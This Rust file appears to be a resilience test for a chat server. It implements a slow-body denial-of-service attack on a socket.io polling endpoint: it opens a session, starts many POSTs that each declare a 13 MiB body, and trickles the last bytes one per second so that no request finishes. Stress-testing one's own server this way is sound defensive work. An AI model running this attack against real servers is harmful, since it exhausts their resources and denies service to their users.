//! Item 12: a polling session brings one packet at a time. So here is one that brings many at once, each as large as may be, and
//! finishes none.

use super::field::Field;
use super::wire;
use crate::support::{json, packet};
use std::io;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::sleep;

/// Sessions, and packets in each of them.
const SESSIONS: usize = 1;
const POSTS: (usize, usize) = (40, 24);
/// Bytes in a packet: a file of 10 MiB as Base64; and what is kept back of it.
pub const PACKET: usize = 13 << 20;
pub const KEPT_BACK: usize = 64 << 10;
/// How often it is tried whether a connection still stands, by one byte more.
const TRY: Duration = Duration::from_secs(1);
const PAUSE: Duration = Duration::from_millis(200);

pub async fn attack(field: Field) {
    field
        .keeps_doing(SESSIONS, PAUSE, |field, number| async move {
            let session = begin(&field, number).await?;
            field.begins();
            let posts = field.size.of(POSTS.0, POSTS.1);
            let posts = (0..posts).map(|post| brings_most(&field, number + post, &session));
            futures_util::future::try_join_all(posts).await.map(drop)
        })
        .await;
}

/// A session of the hostile account's by polling, as its requests name it.
pub async fn begin(field: &Field, number: usize) -> io::Result<String> {
    let path = "/socket.io/?EIO=4&transport=polling";
    let mut connection = field.connects(number).await?;
    let open = wire::request("GET", path, "", None);
    let (_, opened) = wire::ask(&mut connection, &open).await?;
    let opened: serde_json::Value = serde_json::from_slice(opened.get(1..).unwrap_or_default())?;
    let sid = opened["sid"].as_str().ok_or(io::ErrorKind::InvalidData)?;
    let path = format!("{path}&sid={sid}");
    let connect = packet::connect("/", &json!({ "token": &*field.token }));
    let length = connect.len();
    let head = format!("POST {path} HTTP/1.1\r\nHost: chat\r\nContent-Type: text/plain\r\n");
    let said = format!("{head}Content-Length: {length}\r\n\r\n{connect}");
    for asked in [said.into_bytes(), wire::request("GET", &path, "", None)] {
        let (status, answer) = wire::ask(&mut connection, &asked).await?;
        if status != 200 {
            return Err(io::Error::other(
                String::from_utf8_lossy(&answer).into_owned(),
            ));
        }
    }
    Ok(path)
}

/// Brings nearly a whole packet, and then hardly anything more, for as long as the server takes it.
pub async fn brings_most(field: &Field, number: usize, session: &str) -> io::Result<()> {
    let mut connection = field.connects(number).await?;
    let head = format!("POST {session} HTTP/1.1\r\nHost: chat\r\nContent-Type: text/plain\r\n");
    let head = format!("{head}Content-Length: {PACKET}\r\n\r\n");
    connection.write_all(head.as_bytes()).await?;
    trickle(&mut connection, PACKET - KEPT_BACK).await
}

/// So many bytes at once, and then one now and then; until nobody takes them.
pub async fn trickle(connection: &mut TcpStream, bytes: usize) -> io::Result<()> {
    connection.write_all(&vec![b'x'; bytes]).await?;
    for _ in 0..KEPT_BACK - 1 {
        sleep(TRY).await;
        connection.write_all(b"x").await?;
    }
    Ok(())
}

#[tokio::test]
async fn packets_that_are_never_finished_cost_little_in_one_session() {
    super::is_borne(super::Attack::Posts).await;
}
